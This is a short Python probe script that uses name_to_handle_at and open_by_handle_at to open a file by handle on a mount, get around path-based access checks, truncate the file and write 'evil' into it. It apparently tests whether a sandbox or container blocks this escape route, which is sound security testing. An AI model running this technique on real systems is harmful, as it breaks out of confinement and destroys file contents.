"""Probe: write FILE through open_by_handle_at on the mount of DIR (root's way round path checks)."""

import ctypes
import os
import sys


class FileHandle(ctypes.Structure):
    _fields_ = (("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_char * 128))


def main() -> int:
    target, mount_dir = sys.argv[1], sys.argv[2]
    libc = ctypes.CDLL(None, use_errno=True)
    handle, mount_id = FileHandle(), ctypes.c_int()
    handle.handle_bytes = 128
    if libc.name_to_handle_at(-100, target.encode(), ctypes.byref(handle), ctypes.byref(mount_id), 0) != 0:
        print(f"name_to_handle_at: {os.strerror(ctypes.get_errno())}")
        return 1
    fd = libc.open_by_handle_at(os.open(mount_dir, os.O_RDONLY | os.O_DIRECTORY), ctypes.byref(handle),
                                os.O_WRONLY | os.O_TRUNC)
    if fd < 0:
        print(f"open_by_handle_at: {os.strerror(ctypes.get_errno())}")
        return 1
    os.write(fd, b"evil\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
